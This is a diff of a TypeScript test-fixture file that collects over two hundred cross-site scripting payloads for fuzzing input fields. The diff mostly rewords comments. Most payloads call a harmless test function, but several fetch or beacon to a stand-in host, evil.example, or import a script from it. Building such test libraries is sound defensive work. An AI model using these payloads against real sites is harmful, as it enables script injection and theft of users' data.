@@ -1,9 +1,9 @@
 /*
- * What attackers write into fields. Each calls `canary`, a function of the tests' pages, or a dialog of the browser; each is short enough
- * for a name (60 characters) where its shape allows it.
+ * What attackers write into fields. Each text calls `canary`, a function of the tests' pages, or opens a dialog of the
+ * browser. Each is short enough for a name (60 characters) if its shape allows it.
  */
 
-/** Elements that run something by themselves when they are parsed. */
+/** Elements that run code as soon as they are parsed. */
 const ELEMENTS = [
   '<script>canary(1)</script>',
   '<ScRiPt>canary(1)</sCrIpT>',
@@ -76,12 +76,12 @@ const ELEMENTS = [
   '<template shadowrootmode=open><script>canary(1)</script>',
 ]
 
-/** Handlers that a style, an animation or a gesture sets off. */
+/** Handlers that a style, an animation or a gesture triggers. */
 const HANDLERS = ['onanimationstart', 'ontransitionend', 'onmouseover', 'onpointerenter', 'onpointerrawupdate', 'onfocusin', 'onscroll', 'onscrollend', 'onwheel', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onauxclick', 'onbeforeinput', 'oncuechange', 'onsecuritypolicyviolation', 'onslotchange', 'onunhandledrejection', 'onmessage', 'onpopstate', 'onresize'].map(
   name => `<p ${name}=canary(1)>x`,
 )
 
-/** Ways out of an attribute, a text, a comment, or a script in which the words may stand. */
+/** Ways out of an attribute, a text, a comment, or a script that contains the words. */
 const BREAKOUTS = [
   '"><script>canary(1)</script>',
   "'><script>canary(1)</script>",
@@ -143,28 +143,31 @@ const BREAKOUTS = [
   '{"$$typeof":"Symbol(react.element)","type":"script"}',
 ]
 
-/** Languages of templates that might read what they are given twice. */
+/** Template languages that might evaluate their own output. */
 const TEMPLATES = ['{{canary(1)}}', '{{constructor.constructor("canary(1)")()}}', "{{'a'.constructor.prototype.charAt=[].join}}", '[[canary(1)]]', '<%= canary(1) %>', '#{canary(1)}', '${{canary(1)}}', '@{canary(1)}', '{%print canary(1)%}', '{canary}', '{name, select, x {<script>canary(1)</script>}}', '{count, plural, other {<b>#</b>}}', "'{'<script>canary(1)</script>'}'", '<b>{name}</b>', '<link>canary</link>', '%3Cscript%3Ecanary(1)%3C/script%3E', '%253Cscript%253Ecanary(1)%253C/script%253E', '&lt;script&gt;canary(1)&lt;/script&gt;', '&#60;script&#62;canary(1)&#60;/script&#62;', '&#x3C;script&#x3E;canary(1)&#x3C;/script&#x3E;', '\\u003cscript\\u003ecanary(1)\\u003c/script\\u003e', '\\x3cscript\\x3ecanary(1)\\x3c/script\\x3e', '+ADw-script+AD4-canary(1)+ADw-/script+AD4-']
 
-/** What is shaped like an address. */
+/** Texts in the shape of an address. */
 const ADDRESSES = ['javascript:canary(1)', 'JaVaScRiPt:canary(1)', 'java\tscript:canary(1)', 'java\nscript:canary(1)', '\x01javascript:canary(1)', ' javascript:canary(1)', 'javascript&colon;canary(1)', 'javascript&#58;canary(1)', 'javascript://evil.example/%0acanary(1)', 'javascript:/*--></title></style></textarea>*/canary(1)', 'vbscript:canary(1)', 'data:text/html,<script>canary(1)</script>', 'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg onload=canary(1)>', 'blob:https://evil.example/x', '//evil.example/x', 'https://evil.example/"onmouseover=canary(1)', 'http://a"onclick=canary(1)//.example', '[x](javascript:canary(1))', '![x](x"onerror="canary(1))', '<javascript:canary(1)>', 'mailto:a@b.example?subject=<script>canary(1)</script>', 'tel:<img src=x onerror=canary(1)>', 'intent://x#Intent;scheme=javascript;end']
 
-/** Letters that are cut, turned round, folded or normalised on their way. */
+/** Letters that are cut, reversed, folded or normalized on their way. */
 const LETTERS = ['\u202e>tpircs/<)1(yranac>tpircs<', '\u2066<script>\u2069canary(1)</script>', '\u200b<script>\u200bcanary(1)</script>', '\ufeff<script>canary(1)</script>', '＜script＞canary(1)＜/script＞', '﹤img src=x onerror=canary(1)﹥', '‹script›canary(1)‹/script›', 'ʺ＞<svg onload=canary(1)>', '\u0130<script>canary(1)</script>', '<ſcript>canary(1)</ſcript>', '<\u017fvg onload=canary(1)>', '<img src=x onerror=ｃanary(1)>', 'भैंस<script>canary(1)</script>', 'எருமை"><svg onload=canary(1)>', 'ਮੱਝ<img src=x onerror=canary(1)>', '🐄<svg onload=canary(1)>🐃', '\ud83d<script>canary(1)</script>', 'a\u0300\u0301\u0302<svg onload=canary(1)>', '\x7f<script>canary(1)</script>', '\x1b]0;canary\x07<script>canary(1)</script>', '<a\u00a0onclick=canary(1)>x</a>', '<img\u3000src=x\u3000onerror=canary(1)>']
 
-/** What a browser turns into something else when it writes it out and reads it again. */
+/** Texts that change when a browser serializes and parses them again. */
 const MUTATIONS = ['<noscript><p title="</noscript><img src=x onerror=canary(1)>">', '<listing>&lt;img src=x onerror=canary(1)&gt;</listing>', '<xmp><p title="</xmp><svg onload=canary(1)>">', '<svg></p><style><a id="</style><img src=x onerror=canary(1)>">', '<math><mtext><table><mglyph><style><img src=x onerror=canary(1)>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(1)>', '<table><a href=javascript:canary(1)>x', '<p id="`><img src=x onerror=canary(1)>">', '<a href="``onmouseover=canary(1)">x</a>', '<style><!--</style><script>canary(1)//--></script>', '<title><a title="</title><img src=x onerror=canary(1)>">', '<select><template><style><!--</style><a rel="--></style></template><svg onload=canary(1)>">']
 
-/** Styles that load or run something where a text becomes one. */
+/** Styles that load or run something if a text becomes a style. */
 const STYLES = ['background:url(javascript:canary(1))', '</style><svg onload=canary(1)>', 'expression(canary(1))', '};*{background:url(//evil.example/x)}', '<p style="background:url(//evil.example/x)">', '<p style="behavior:url(x.htc)">', '@import url(//evil.example/x.css);', '<p style=position:fixed;inset:0;z-index:9e9>x']
 
-/** Calls that a filter for `canary` and brackets would not see. */
+/** Calls that a filter for `canary` and brackets would miss. */
 const CALLS = ['<img src=x onerror=alert(1)>', '<img src=x onerror=prompt`1`>', '<svg onload=confirm(1)>', '<svg onload=top["canary"](1)>', '<svg onload=self["can"+"ary"](1)>', '<svg onload=setTimeout("canary(1)")>', '<svg onload=eval(atob("Y2FuYXJ5KDEp"))>', '<svg onload=import("//evil.example/x.js")>', '<svg onload=location="javascript:canary(1)">', '<svg onload=fetch("//evil.example")>', '<svg onload=navigator.sendBeacon("//evil.example")>', '<svg onload=throw/a/,onerror=canary>']
 
 /** More than two hundred, all different. */
 export const XSS_STRINGS: readonly string[] = [...new Set([...ELEMENTS, ...HANDLERS, ...BREAKOUTS, ...TEMPLATES, ...ADDRESSES, ...LETTERS, ...MUTATIONS, ...STYLES, ...CALLS])]
 
-/** Several in one text, as many as fit: what one of them opens, the next may close. @param most characters of a text */
+/**
+ * Several in one text, as many as fit: what one opens, the next may close.
+ * @param most characters of a text
+ */
 export function xssTexts(most: number, between = ' '): string[] {
   const texts: string[] = []
   for (const string of XSS_STRINGS) {
